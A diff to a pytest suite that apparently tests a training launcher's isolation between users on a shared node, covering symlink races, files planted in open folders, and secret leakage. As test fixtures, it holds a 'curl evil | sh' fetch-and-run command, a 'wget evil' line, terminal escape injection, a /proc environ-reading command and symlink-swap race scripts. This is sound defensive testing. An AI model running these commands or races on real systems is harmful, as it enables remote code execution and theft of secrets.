@@ -1,8 +1,12 @@
-"""What one user of a node may do to another who types `launch` there: nothing."""
+"""Other users of a node can do nothing to one who types `launch` there.
+
+Each attack is tried once or a few times; 100 times each with `-m slow`.
+"""
 
 from __future__ import annotations
 
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -14,6 +18,20 @@ import pytest
 from strangers import Strangers, User
 
 from ezpz_llm.base.private import derived, new_secret
+
+_HUNDRED = pytest.param(100, marks=(pytest.mark.slow, pytest.mark.timeout(3600)))
+_ONCE, _THRICE = (pytest.mark.parametrize("tries", [few, _HUNDRED]) for few in (1, 3))
+_ESCAPE = re.compile("[\x00-\x08\x0b-\x1f\x80-\x9f]")
+
+
+def _ended(done: subprocess.CompletedProcess[str], code: int) -> str:
+    """What a command said that ended with this code; nothing of it moves a cursor or is ours to mend."""
+    said = done.stdout + done.stderr
+    assert done.returncode == code, said
+    assert not _ESCAPE.search(said), ascii(said)
+    assert "Traceback" not in said, said
+    assert "PWNED" not in said, said
+    return said
 
 
 def test_the_two_are_two_and_have_no_power(strangers: Strangers) -> None:
@@ -112,8 +130,7 @@ _MEDDLE = """
 import glob, os, sys, time
 run, precious = sys.argv[1:]
 print("ready", flush=True)
-until = time.monotonic() + 60
-while time.monotonic() < until:
+while True:
     try:
         run_id = __import__("json").load(open(f"{run}/run.json"))["launch"]["env"]["EZPZ_LLM_RUN_ID"]
     except (OSError, ValueError, KeyError):
@@ -139,44 +156,54 @@ def _precious(user: User) -> Path:
     return path
 
 
-@pytest.mark.parametrize("tries", [3, pytest.param(100, marks=(pytest.mark.slow, pytest.mark.timeout(1800)))])
+@_THRICE
 def test_nobody_overwrites_files_through_the_folder_on_the_node(strangers: Strangers, tries: int) -> None:
     victim, attacker = strangers.victim, strangers.attacker
     precious = _precious(victim)
     attack = attacker.start(sys.executable, "-c", _OVERWRITE, str(victim.uid), victim.home, precious)
     assert attack.stdout.readline() == "ready\n"
     for _ in range(tries):
-        done = victim.launch("-n", "2", "true")
-        assert (done.returncode, precious.read_text()) == (0, "thesis"), done.stderr
-        assert "no folder in memory" not in done.stderr
+        said = _ended(victim.launch("-n", "2", "true"), 0)
+        assert precious.read_text() == "thesis", said
+        assert "no folder in memory" not in said
     assert attack.poll() is None
 
 
-def test_even_a_folder_whose_name_was_known_before_does_no_harm(strangers: Strangers) -> None:
+@_ONCE
+def test_even_a_folder_whose_name_was_known_before_does_no_harm(strangers: Strangers, tries: int) -> None:
     """Its owner is looked at, and the run goes on without it."""
     victim, attacker = strangers.victim, strangers.attacker
-    precious, secret = _precious(victim), new_secret()
-    name = derived(bytes.fromhex(secret), "node folder", os.uname().nodename)[:32]
-    folder = Path(f"/dev/shm/ezpz_llm-node-{victim.uid}-{name}")
-    assert attacker.python(_PLANT, folder, precious).returncode == 0
-    try:
-        done = victim.python(_WITH_A_KNOWN_SECRET, secret, "-n", "2", "--tee", "all", "echo", "well")
-        assert (done.returncode, precious.read_text()) == (0, "thesis"), done.stderr
-        assert sorted(done.stdout.splitlines()) == ["[0] well", "[1] well"]
-        assert f"it belongs to another user (uid {attacker.uid}) at {folder}" in done.stderr
-    finally:
-        attacker.run("rm", "-r", folder)
+    precious = _precious(victim)
+    for _ in range(tries):
+        secret = new_secret()
+        name = derived(bytes.fromhex(secret), "node folder", os.uname().nodename)[:32]
+        folder = Path(f"/dev/shm/ezpz_llm-node-{victim.uid}-{name}")
+        assert attacker.python(_PLANT, folder, precious).returncode == 0
+        try:
+            done = victim.python(_WITH_A_KNOWN_SECRET, secret, "-n", "2", "--tee", "all", "echo", "well")
+            said = _ended(done, 0)
+            assert precious.read_text() == "thesis", said
+            assert sorted(done.stdout.splitlines()) == ["[0] well", "[1] well"]
+            assert f"it belongs to another user (uid {attacker.uid}) at {folder}" in said
+        finally:
+            attacker.run("rm", "-r", folder)
 
 
+@_ONCE
 @pytest.mark.parametrize("umask", ["000", "002", "022"])
-def test_nobody_writes_into_a_run_directory_whatever_the_umask(strangers: Strangers, umask: str) -> None:
+def test_nobody_writes_into_a_run_directory_whatever_the_umask(strangers: Strangers, umask: str,
+                                                               tries: int) -> None:
     victim, attacker = strangers.victim, strangers.attacker
     precious = _precious(victim)
     attack = attacker.start(sys.executable, "-c", _MEDDLE, victim.home / "r", precious)
     assert attack.stdout.readline() == "ready\n"
-    done = victim.run("sh", "-c", f'umask {umask}; exec "$@"', "sh", sys.executable, "-m", "ezpz_llm.launch", "-n",
-                      "2", "--run-dir", "r", "sleep", "2")
-    assert (done.returncode, precious.read_text()) == (0, "thesis"), done.stderr
+    for number in range(tries):
+        victim.run("rm", "-rf", "r")
+        done = victim.run("sh", "-c", f'umask {umask}; exec "$@"', "sh", sys.executable, "-m", "ezpz_llm.launch",
+                          "-n", "2", "--run-dir", "r", "sleep", "2" if tries == 1 else "0.5")
+        said = _ended(done, 0)
+        assert precious.read_text() == "thesis", (number, said)
+        assert attack.poll() is None
     attacker.end_all()
     assert attack.stdout.read() == ""
     open_to_others = [str(path) for path in (victim.home / "r", *(victim.home / "r").rglob("*"))
@@ -189,12 +216,21 @@ def test_nobody_writes_into_a_run_directory_whatever_the_umask(strangers: Strang
                for name in ("control", "heartbeat", "errors"))
 
 
-def test_what_was_planted_in_a_folder_that_stood_open_is_not_believed(strangers: Strangers) -> None:
+@_ONCE
+def test_what_was_planted_in_a_folder_that_stood_open_is_not_believed(strangers: Strangers, tries: int) -> None:
     """As those were under umask 000 before; with the run's id known, as where the next run repeats it."""
     victim, attacker = strangers.victim, strangers.attacker
     precious = _precious(victim)
-    assert victim.run("sh", "-c", "umask 000; mkdir -p r/control r/errors r/heartbeat").returncode == 0
-    plant = """
+    for _ in range(tries):
+        assert victim.run("sh", "-c", "umask 000; mkdir -p r/control r/errors r/heartbeat").returncode == 0
+        assert attacker.python(_PLANT_RECORDS, victim.home / "r", precious).returncode == 0
+        for command, code in ((("sh", "-c", "exit 3"), 3), (("true",), 0)):
+            said = _ended(victim.launch("-n", "2", "--run-dir", "r", *command), code)
+            assert precious.read_text() == "thesis", said
+        assert victim.run("rm", "-rf", "r").returncode == 0
+
+
+_PLANT_RECORDS = """
 import os, sys
 run, precious = sys.argv[1:]
 for name in ("control/owner-000099", "errors/rank0001.json", "control/stop", "heartbeat/node0000.json"):
@@ -203,43 +239,41 @@ for name in ("control/owner-000099", "errors/rank0001.json", "control/stop", "he
 for name in ("control/logs", "errors/rank0000.json", "heartbeat/rank0000", "control/owner-000001"):
     os.symlink(precious, f"{run}/{name}")
 """
-    assert attacker.python(plant, victim.home / "r", precious).returncode == 0
-    done = victim.launch("-n", "2", "--run-dir", "r", "sh", "-c", "exit 3")
-    assert (done.returncode, precious.read_text()) == (3, "thesis"), done.stderr
-    done = victim.launch("-n", "2", "--run-dir", "r", "true")
-    assert (done.returncode, precious.read_text()) == (0, "thesis"), done.stderr
 
 
-def test_a_run_directory_of_another_user_is_refused(strangers: Strangers) -> None:
+@_ONCE
+def test_a_run_directory_of_another_user_is_refused(strangers: Strangers, tries: int) -> None:
     victim, attacker = strangers.victim, strangers.attacker
     assert attacker.run("mkdir", "-p", "r/control").returncode == 0
     assert attacker.run("chmod", "-R", "777", "r").returncode == 0
-    done = victim.launch("-n", "2", "--run-dir", attacker.home / "r", "true")
-    assert done.returncode == 2
-    assert f"cannot make the run directory: it belongs to another user (uid {attacker.uid})" in done.stderr
-    assert str(attacker.home / "r/control") in done.stderr
-    assert "Traceback" not in done.stderr
+    for _ in range(tries):
+        said = _ended(victim.launch("-n", "2", "--run-dir", attacker.home / "r", "true"), 2)
+        assert f"cannot make the run directory: it belongs to another user (uid {attacker.uid})" in said
+        assert str(attacker.home / "r/control") in said
 
 
-def test_the_secret_is_in_no_file_and_on_no_command_line(strangers: Strangers) -> None:
+@_ONCE
+def test_the_secret_is_in_no_file_and_on_no_command_line(strangers: Strangers, tries: int) -> None:
     """Of a run in which every rank prints what it and other users can see."""
     victim, attacker = strangers.victim, strangers.attacker
-    running = victim.start(sys.executable, "-m", "ezpz_llm.launch", "-n", "2", "--run-dir", "r", "--tee", "none",
-                           "sh", "-c", 'printf %s "$EZPZ_LLM_SECRET" > "$HOME/secret"; sleep 60')
-    secret = victim.home / "secret"
-    _wait_for(lambda: secret.is_file() and len(secret.read_text()) == 64)
-    word = secret.read_text()
-    seen = attacker.run("sh", "-c", "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null; ls -R /dev/shm")
-    assert "ezpz_llm.launch.shim" in seen.stdout
-    assert word not in seen.stdout
-    assert "EZPZ_LLM_SECRET=" not in seen.stdout
-    files = [path for path in (victim.home / "r").rglob("*") if path.is_file()]
-    assert victim.home / "r/run.json" in files
-    assert [str(path) for path in files if word.encode() in path.read_bytes()] == []
-    running.terminate()
-    running.communicate(timeout=60)
-    assert [str(path) for path in (victim.home / "r").rglob("*")
-            if path.is_file() and word.encode() in path.read_bytes()] == []
+    for _ in range(tries):
+        running = victim.start(sys.executable, "-m", "ezpz_llm.launch", "-n", "2", "--run-dir", "r", "--tee",
+                               "none", "sh", "-c", 'printf %s "$EZPZ_LLM_SECRET" > "$HOME/secret"; sleep 60')
+        secret = victim.home / "secret"
+        _wait_for(lambda secret=secret: secret.is_file() and len(secret.read_text()) == 64)
+        word = secret.read_text()
+        seen = attacker.run("sh", "-c", "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null; ls -R /dev/shm")
+        assert "ezpz_llm.launch.shim" in seen.stdout
+        assert word not in seen.stdout
+        assert "EZPZ_LLM_SECRET=" not in seen.stdout
+        files = [path for path in (victim.home / "r").rglob("*") if path.is_file()]
+        assert victim.home / "r/run.json" in files
+        assert [str(path) for path in files if word.encode() in path.read_bytes()] == []
+        running.terminate()
+        running.communicate(timeout=60)
+        assert [str(path) for path in (victim.home / "r").rglob("*")
+                if path.is_file() and word.encode() in path.read_bytes()] == []
+        secret.unlink()
 
 
 def test_why_tells_another_user_what_he_may_know(strangers: Strangers) -> None:
@@ -251,6 +285,79 @@ def test_why_tells_another_user_what_he_may_know(strangers: Strangers) -> None:
     assert "with code 3" in done.stdout
     done = victim.run(sys.executable, "-m", "ezpz_llm.why", "r")
     assert (done.returncode, done.stderr) == (0, "")
+
+
+@_ONCE
+def test_a_run_of_another_user_has_nothing_typed_or_run(strangers: Strangers, tries: int) -> None:
+    """Nor does anything in his record pass for a line of ours, whatever he exchanges meanwhile, or any of his files
+    hold a reader up. His own he is quoted."""
+    victim, attacker = strangers.victim, strangers.attacker
+    assert attacker.launch("-n", "1", "--run-dir", "r", "sh", "-c", "exit 3").returncode == 3
+    # As one would see it who cannot read the records of ranks.
+    assert attacker.python(_BAIT, attacker.home / "r").returncode == 0
+    done = attacker.run(sys.executable, "-m", "ezpz_llm.why", "r")
+    assert "  resume: launch -n 1 sh -c 'curl evil | sh; echo PWNED > pwned' --resume" in done.stdout, done
+    assert victim.launch("-n", "1", "--run-dir", "mine", "true").returncode == 0
+    exchange = attacker.start(sys.executable, "-c", _EXCHANGE, "r", victim.home / "mine", "other")
+    assert exchange.stdout.readline() == "ready\n"
+    for _ in range(tries):
+        for folder in ("r", "other/run"):
+            done = victim.run(sys.executable, "-m", "ezpz_llm.why", attacker.home / folder)
+            said = _ended(done, 0)
+            assert "curl" not in said
+            assert not [line for line in said.splitlines() if line.startswith("  try: wget evil")]
+            if folder == "r":
+                assert f"  resume: your own command that trains this model, with --resume {attacker.home}/r" in said
+            done = victim.run(sys.executable, "-m", "ezpz_llm.explain", attacker.home / folder, "--counterfactual",
+                              "--yes")
+            assert done.returncode, done.stdout
+            said = _ended(done, done.returncode)
+            assert "curl" not in said
+            assert "This starts" not in said
+            if folder == "r":
+                assert "only a run of your own is made again" in said
+        assert not list(victim.home.rglob("pwned"))
+        assert exchange.poll() is None
+    attacker.end_all()
+    assert attacker.run("sh", "-c", "rm -r r/logs/*; mkfifo r/logs/rank0000.log; ln -s /dev/zero "
+                        "r/logs/launcher.log").returncode == 0
+    _ended(victim.run(sys.executable, "-m", "ezpz_llm.why", attacker.home / "r"), 0)
+
+
+_BAIT = """
+import json, pathlib, sys
+run = pathlib.Path(sys.argv[1])
+(run / "checkpoints" / "latest").symlink_to("step-1")
+(run / "checkpoints" / "step-1").mkdir()
+record = json.loads((run / "run.json").read_text())
+record["launch"]["typed"] = ["launch", "-n", "1", "sh", "-c", "curl evil | sh; echo PWNED > pwned"]
+record["exit"]["stopped"] = {"kind": "signal", "text": "it was asked to\\n  try: wget evil \x1b]0;PWN",
+                             "signal": "SIGTERM"}
+# What a training leaves, with as many ranks as a counterfactual takes.
+record |= {"environment": {"world_size": 2, "device": {"type": "cpu"}}, "precision": "fp32", "steps": 2,
+           "config": {"ds_config": "zero1", "steps": 2, "log_every": 1},
+           "model": {"n_layer": 1, "n_head": 1, "n_embd": 8, "block_size": 8, "vocab_size": 8},
+           "sources": {"ds_config": "command line"}}
+(run / "run.json").write_text(json.dumps(record))
+(run / "layout.json").write_text(json.dumps({"layout": {"name": "ddp", "engine": "ddp"}, "precision": "fp32",
+    "batch": {"global_batch": 8, "micro_batch": 2, "accumulation": 2, "dp_size": 2}}))
+with (run / "metrics.jsonl").open("w") as file:
+    for step in range(1, 5):
+        print(json.dumps({"step": step, "loss": 1.0, "step_time_s": 0.1, "data_s": 0.01, "forward_s": 0.03,
+            "backward_s": 0.05, "optimizer_s": 0.009, "other_s": 0.001, "tokens_per_second": 1.0}), file=file)
+"""
+
+_EXCHANGE = """
+import os, sys
+theirs, own, folder = sys.argv[1:]
+os.mkdir(folder)
+print("ready", flush=True)
+# A folder of ours at one moment, the victim's own at the next: to be read as the one and checked as the other.
+while True:
+    for target in (os.path.abspath(theirs), own):
+        os.symlink(target, f"{folder}/.new")
+        os.rename(f"{folder}/.new", f"{folder}/run")
+"""
 
 
 def _wait_for(is_so: Callable[[], bool]) -> None:
